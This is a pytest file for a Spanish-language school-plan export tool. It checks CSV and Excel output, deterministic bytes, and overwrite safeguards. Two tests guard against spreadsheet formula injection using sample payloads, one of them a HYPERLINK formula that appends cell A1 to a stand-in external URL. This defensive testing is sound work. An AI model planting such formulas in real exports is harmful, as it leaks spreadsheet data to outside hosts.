"""CSV (un archivo por tabla, mismos bytes con la misma fecha) y el libro de Excel."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from zonas import EJEMPLOS, FECHA
from rutamejora.commands import app
from rutamejora.intercambio.tablas_esquema import TABLAS

runner = CliRunner()
PRIMARIA = EJEMPLOS / "primaria-2025-2026"
PEMC = EJEMPLOS / "pemc-secundaria-2024-2026"


def exportar(*args: str):
    return runner.invoke(app, ["exportar", *args])


def _bytes(carpeta: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(carpeta.iterdir())}


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_un_archivo_por_tabla_y_los_mismos_bytes(zona_limpia, tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    for salida, procesos in ((a, "1"), (b, "2")):
        r = exportar(str(zona_limpia), "-o", str(salida), "--formato", "csv", "--fecha", FECHA,
                     "--procesos", procesos)
        assert (r.exit_code, r.output) == (0, f"Exportadas 3 Rutas a {salida}.\n")
    assert sorted(_bytes(a)) == sorted(f"{t.nombre}.csv" for t in TABLAS)
    assert _bytes(a) == _bytes(b)
    for tabla in TABLAS:
        lector = csv.reader(io.StringIO((a / f"{tabla.nombre}.csv").read_text(encoding="utf-8")))
        assert tuple(next(lector)) == tabla.nombres


def test_csv_valores(zona_limpia, tmp_path):
    salida = tmp_path / "zona"
    exportar(str(zona_limpia), "-o", str(salida), "--formato", "csv", "--fecha", FECHA)
    texto = (salida / "acciones.csv").read_bytes().decode("utf-8")
    assert "\r\n" in texto and not texto.startswith("\ufeff")
    filas = list(csv.DictReader(io.StringIO(texto)))
    a4 = next(f for f in filas if f["ruta"] == "escuelas/21DPR0487A/2025-2026" and f["id"] == "A4")
    assert (a4["costo_centavos"], a4["inicio"], a4["fuente"]) == ("225000", "2025-10-06", "F2")
    metas = list(csv.DictReader(io.StringIO((salida / "metas.csv").read_text(encoding="utf-8"))))
    m1 = next(f for f in metas if f["ruta"] == "escuelas/21DPR0487A/2025-2026" and f["id"] == "M1")
    assert (m1["linea_base"], m1["valor_meta"], m1["fecha_limite"]) == ("46", "60", "2026-06-19")


def test_csv_no_reemplaza_una_carpeta_ajena(zona_limpia, tmp_path):
    ajena = tmp_path / "mis-datos"
    ajena.mkdir()
    (ajena / "lista.txt").write_text("no tocar\n", encoding="utf-8")
    r = exportar(str(zona_limpia), "-o", str(ajena), "--formato", "csv")
    assert r.exit_code == 2
    assert r.output == (f"ruta: la carpeta {ajena} ya tiene archivos y no es una exportación de "
                        "`ruta exportar`: no se reemplaza. Elige otra carpeta o usa --forzar.\n")
    assert _bytes(ajena) == {"lista.txt": b"no tocar\n"}
    # Con --forzar se reemplaza, y se dice qué tenía.
    for i in range(6):
        (ajena / f"nota{i}.txt").write_text("x\n", encoding="utf-8")
    r = exportar(str(zona_limpia), "-o", str(ajena), "--formato", "csv", "--forzar")
    assert (r.exit_code, r.output) == (0, (
        f"Exportadas 3 Rutas a {ajena}.\nruta: con --forzar se reemplazó la carpeta {ajena}, que no "
        "era una exportación de `ruta exportar`; tenía 7 archivos o carpetas: lista.txt, nota0.txt, "
        "nota1.txt, nota2.txt, nota3.txt y 2 más.\n"))
    assert "lista.txt" not in _bytes(ajena) and "metadatos.csv" in _bytes(ajena)
    shutil.rmtree(ajena)
    ajena.mkdir()
    (ajena / "lista.txt").write_text("no tocar\n", encoding="utf-8")
    # Una exportación anterior sí se reemplaza, entera (sin archivos viejos).
    salida = tmp_path / "zona"
    exportar(str(zona_limpia), "-o", str(salida), "--formato", "csv", "--fecha", FECHA)
    (salida / "viejo.csv").write_text("x\n", encoding="utf-8")
    assert exportar(str(zona_limpia), "-o", str(salida), "--formato", "csv").exit_code == 0
    assert "viejo.csv" not in _bytes(salida)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["mis-datos", "zona"]


@pytest.mark.parametrize("salida, formato, mensaje", [
    ("zona.txt", None, "ruta: no se sabe en qué formato exportar a {s}: usa una extensión válida "
                       "(.db, .sqlite, .sqlite3, .xlsx), o --formato csv con una carpeta.\n"),
    ("zona.csv", "csv", "ruta: --formato csv escribe un archivo por tabla en una carpeta: indica "
                        "una carpeta con -o (p. ej. -o {sin}).\n"),
    ("zona.db", "xlsx", "ruta: --formato xlsx no va con {s}: usa una extensión válida (.db, "
                        ".sqlite, .sqlite3, .xlsx) que corresponda.\n"),
    ("zona", None, "ruta: no se sabe en qué formato exportar a {s}: usa una extensión válida "
                   "(.db, .sqlite, .sqlite3, .xlsx), o --formato csv con una carpeta.\n"),
])
def test_formato_mal_pedido_es_error_de_uso(tmp_path, salida, formato, mensaje):
    destino = tmp_path / salida
    args = [str(PRIMARIA), "-o", str(destino)] + (["--formato", formato] if formato else [])
    r = exportar(*args)
    assert r.exit_code == 2
    assert r.output == mensaje.format(s=destino, sin=destino.with_suffix(""))
    assert list(tmp_path.iterdir()) == []


# --- Excel -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def libro_primaria(tmp_path_factory) -> Path:
    salida = tmp_path_factory.mktemp("xlsx") / "ruta.xlsx"
    r = exportar(str(PRIMARIA), "-o", str(salida), "--fecha", FECHA)
    assert (r.exit_code, r.output) == (0, f"Exportada 1 Ruta a {salida}.\n")
    return salida


def test_xlsx_hojas_encabezados_congelados_y_tipos(libro_primaria):
    libro = openpyxl.load_workbook(libro_primaria)
    assert libro.sheetnames == [
        "Escuela", "Prioridades", "No atendidas", "Objetivos", "Metas", "Acciones", "Responsables", "Fuentes",
        "Seguimiento acciones", "Seguimiento metas", "Bitácora", "Avances", "Mediciones",
        "Acuerdos", "Ingresos", "Ajustes", "Rasgos", "Balance", "Problemas"]
    for hoja in libro.worksheets:
        assert hoja.freeze_panes == "A2", hoja.title
        assert all(c.font.b for c in hoja[1] if c.value is not None), hoja.title
    acciones = libro["Acciones"]
    cabeza = [c.value for c in acciones[1]]
    assert cabeza[:4] == ["id", "metas", "actividad", "ambito"] and "costo" in cabeza
    a4 = next(f for f in acciones.iter_rows(min_row=2) if f[0].value == "A4")
    costo, inicio = a4[cabeza.index("costo")], a4[cabeza.index("inicio")]
    assert (costo.value, costo.number_format) == (2250, '"$"#,##0.00')
    assert (inicio.value, inicio.number_format) == (datetime(2025, 10, 6), "DD/MM/YYYY")
    assert 8 <= acciones.column_dimensions["C"].width <= 60


def test_xlsx_primera_hoja_escuela_y_sello(libro_primaria):
    escuela = dict(openpyxl.load_workbook(libro_primaria)["Escuela"].iter_rows(min_row=2, values_only=True))
    assert escuela["cct"] == "21DPR0487A" and escuela["marco"] == "rme-2014"
    assert (escuela["herramienta"], escuela["version"], escuela["esquema"], escuela["fecha"]) == (
        "ruta exportar", "0.1.0", "2", FECHA)


def test_xlsx_seguimiento_una_columna_por_sesion(libro_primaria):
    libro = openpyxl.load_workbook(libro_primaria)
    metas = list(libro["Seguimiento metas"].iter_rows(values_only=True))
    assert metas[0][:5] == ("meta", "descripcion", "linea_base", "valor_meta", "Sesión 1")
    m1 = next(f for f in metas if f[0] == "M1")
    sesiones = dict(zip(metas[0], m1))
    assert (sesiones["linea_base"], sesiones["valor_meta"], sesiones["Sesión 1"],
            sesiones["Sesión 4"], sesiones["estado"]) == (46, 60, 45, 51, "en_riesgo")
    acciones = list(libro["Seguimiento acciones"].iter_rows(values_only=True))
    a2 = dict(zip(acciones[0], next(f for f in acciones if f[0] == "A2")))
    assert a2["Sesión 1"] == 33
    # La bitácora entera al lado: un renglón por registro, con evidencias y comprobantes.
    avances = list(libro["Avances"].iter_rows(values_only=True))
    cabeza = avances[0]
    registro = dict(zip(cabeza, next(f for f in avances[1:] if f[cabeza.index("accion")] == "A2")))
    assert (registro["evidencias"], registro["gasto"], registro["comprobante"]) == (
        "Concentrado del corte inicial por grupo", 210, "APF-2025-0412")


def test_xlsx_ruta_de_varios_ciclos_y_palabra_del_marco(tmp_path):
    salida = tmp_path / "pemc.xlsx"
    assert exportar(str(PEMC), "-o", str(salida), "--fecha", FECHA).exit_code == 0
    libro = openpyxl.load_workbook(salida)
    assert libro.sheetnames[1] == "Ámbitos"
    cabeza = next(libro["Seguimiento metas"].iter_rows(values_only=True))
    assert "Sesión 8 (2024-2025)" in cabeza and "Sesión 5 (2025-2026)" in cabeza


def test_xlsx_zona_con_columna_ruta_y_mismos_bytes(zona_limpia, tmp_path):
    a, b = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    for salida in (a, b):
        assert exportar(str(zona_limpia), "-o", str(salida), "--fecha", FECHA).exit_code == 0
    assert a.read_bytes() == b.read_bytes()
    # Un libro exportado antes se reemplaza sin --forzar.
    assert exportar(str(zona_limpia), "-o", str(a), "--fecha", FECHA).exit_code == 0
    libro = openpyxl.load_workbook(a)
    assert libro.sheetnames[:2] == ["Escuelas", "Prioridades"]
    escuelas = libro["Escuelas"]
    assert [escuelas.cell(i, 1).value for i in range(1, 6)] == [
        "herramienta: ruta exportar", "version: 0.1.0", "esquema: 2", f"fecha: {FECHA}", None]
    assert escuelas.freeze_panes == "A7"
    assert [c.value for c in escuelas[6]][:3] == ["ruta", "cct", "nombre"]
    assert [escuelas.cell(i, 2).value for i in (7, 8, 9)] == ["15EES0527T", "21DPR0487A", "29DPR0418X"]
    assert next(libro["Metas"].iter_rows(values_only=True))[:2] == ("ruta", "id")
    with zipfile.ZipFile(a) as z:
        core = z.read("docProps/core.xml").decode()
        assert '<dc:creator xmlns:dc="http://purl.org/dc/elements/1.1/">ruta exportar</dc:creator>' in core
        assert f"{FECHA}T00:00:00Z" in core
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_xlsx_no_reemplaza_un_libro_ajeno(tmp_path):
    ajeno = tmp_path / "ruta.xlsx"
    libro = openpyxl.Workbook()
    libro.active["A1"] = "mis cuentas"
    libro.save(ajeno)
    antes = ajeno.read_bytes()
    r = exportar(str(PRIMARIA), "-o", str(ajeno))
    assert r.exit_code == 2
    assert r.output == (f"ruta: {ajeno} ya existe y no es una exportación de `ruta exportar`: no se "
                        "reemplaza. Bórralo, elige otro nombre o usa --forzar.\n")
    assert ajeno.read_bytes() == antes


def test_csv_nunca_reemplaza_una_ruta_ni_con_forzar(tmp_path):
    import shutil

    ruta = tmp_path / "primaria"
    shutil.copytree(PRIMARIA, ruta)
    antes = _bytes(ruta)
    r = exportar(str(ruta), "-o", str(tmp_path), "--formato", "csv", "--forzar")
    assert r.exit_code == 2
    assert r.output == (f"ruta: la carpeta {tmp_path} tiene una Ruta dentro (primaria/ruta.yaml): "
                        "una exportación nunca la reemplaza. Elige otra carpeta para los CSV.\n")
    assert _bytes(ruta) == antes
    r = exportar(str(ruta), "-o", str(ruta), "--formato", "csv", "--forzar")
    assert r.output == (f"ruta: la carpeta {ruta} tiene una Ruta (ruta.yaml): una exportación "
                        "nunca la reemplaza. Elige otra carpeta para los CSV.\n")


def test_xlsx_un_texto_con_igual_no_es_formula():
    from datetime import date

    from rutamejora.intercambio.exportar_xlsx import libro_xlsx

    tablas = {t.nombre: [] for t in TABLAS}
    tablas["rutas"] = [("r", *([None] * 15))]
    tablas["acuerdos"] = [("r", 1, "2025-09-01", 1, 1, '=HYPERLINK("http://x","y")')]
    libro = openpyxl.load_workbook(io.BytesIO(libro_xlsx(tablas, date(2026, 1, 1))))
    celda = libro["Acuerdos"]["E2"]
    assert (celda.value, celda.data_type) == ('=HYPERLINK("http://x","y")', "s")


def test_csv_un_texto_que_empieza_como_formula_no_se_ejecuta(zona_limpia, tmp_path):
    """Inyección en CSV: un texto de la Ruta que empieza con «=», «+», «-» o «@» va con un
    apóstrofo delante (Excel y LibreOffice lo muestran como texto); SQLite lo guarda tal cual y
    los números no cambian."""
    import shutil
    import sqlite3

    zona = tmp_path / "zona"
    shutil.copytree(zona_limpia, zona)
    acciones = zona / "escuelas" / "21DPR0487A" / "2025-2026" / "acciones.yaml"
    from ruamel.yaml import YAML

    yaml = YAML()
    datos = yaml.load(acciones.read_text(encoding="utf-8"))
    formulas = ['=HYPERLINK("http://x.example/?"&A1;"clic")', "+52 cuotas", "-1+1", "@SUMA(A1:A9)"]
    for accion, formula in zip(datos["acciones"], formulas):
        accion["actividad"] = formula
    with open(acciones, "w", encoding="utf-8") as f:
        yaml.dump(datos, f)
    salida, base = tmp_path / "csv", tmp_path / "zona.db"
    assert exportar(str(zona), "-o", str(salida), "--formato", "csv", "--fecha", FECHA).exit_code == 0
    assert exportar(str(zona), "-o", str(base), "--fecha", FECHA).exit_code == 0
    filas = list(csv.DictReader(io.StringIO((salida / "acciones.csv").read_text(encoding="utf-8"))))
    escritas = {f["id"]: f for f in filas if f["ruta"] == "escuelas/21DPR0487A/2025-2026"}
    assert [escritas[f"A{i}"]["actividad"] for i in range(1, 5)] == ["'" + f for f in formulas]
    assert escritas["A4"]["costo_centavos"] == "225000"
    with sqlite3.connect(base) as conexion:
        guardadas = dict(conexion.execute(
            "SELECT id, actividad FROM acciones WHERE ruta = 'escuelas/21DPR0487A/2025-2026'"))
    assert [guardadas[f"A{i}"] for i in range(1, 5)] == formulas
